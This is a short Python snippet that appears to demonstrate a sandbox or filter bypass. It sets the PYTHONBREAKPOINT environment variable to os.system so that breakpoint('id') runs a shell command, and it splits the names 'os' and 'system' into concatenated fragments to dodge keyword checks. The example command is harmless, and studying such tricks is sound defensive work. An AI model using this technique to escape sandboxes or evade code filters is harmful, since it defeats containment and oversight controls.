# breakpoint() consults $PYTHONBREAKPOINT at every call and imports the
# named callable; pointing it at os.system turns breakpoint('id') into a
# shell command.
import sys

env = sys.modules['o' + 's'].environ
env['PYTHON' + 'BREAKPOINT'] = 'o' + 's.' + 'sys' + 'tem'
breakpoint('id')
